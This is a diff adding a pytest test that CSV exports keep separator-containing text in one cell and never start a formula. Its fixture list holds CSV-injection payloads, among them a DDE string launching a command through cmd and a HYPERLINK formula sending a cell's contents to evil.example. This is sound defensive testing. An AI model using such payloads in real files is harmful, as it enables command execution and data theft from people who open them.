@@ -140,3 +140,32 @@ def test_text_and_dates_in_a_number_column_keep_their_own_formats():
         sheet = xlsx_sheet_add(workbook, title="t", columns=columns, rows=[["hidden"], [date(2026, 3, 1)]])
 
     assert [sheet.cell(row=row, column=1).number_format for row in (2, 3)] == ["General", "d.m.yyyy"]
+
+
+# A file's separator is the one of the language asked for, but a spreadsheet program splits a CSV file
+# at its own computer's list separator: "," in an English Windows, ";" in a Finnish one. A text holding
+# the other separator must not be cut there into a cell that starts a formula.
+SPLIT_FORMULAS = [
+    "Kallio,=1+2+cmd|' /C calc'!A0,",
+    'Töölö;=HYPERLINK(CONCATENATE("http://evil.example/?",A1));',
+    "Vuosaari,+358401234567",
+    "Pasila;@SUM(A1:A9)",
+    "Kamppi,-2+3",
+]
+
+
+@pytest.mark.parametrize("language", [None, "fi", "sv", "en"])
+@pytest.mark.parametrize("read_with", [";", ","])
+def test_a_text_with_a_separator_is_one_cell_and_no_formula_whichever_separator_opens_the_file(language, read_with):
+    content = csv_bytes(
+        columns=[Column("Unit,=1+1"), Column("Count")],
+        rows=[[text, 3] for text in SPLIT_FORMULAS],
+        language=language,
+    )
+
+    text = content.decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=read_with) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+    own_delimiter = ";" if language in (None, "fi", "sv") else ","
+    rows = list(csv.reader(io.StringIO(text), delimiter=own_delimiter))
+    assert rows == [["Unit,=1+1", "Count"], *([value, "3"] for value in SPLIT_FORMULAS)]
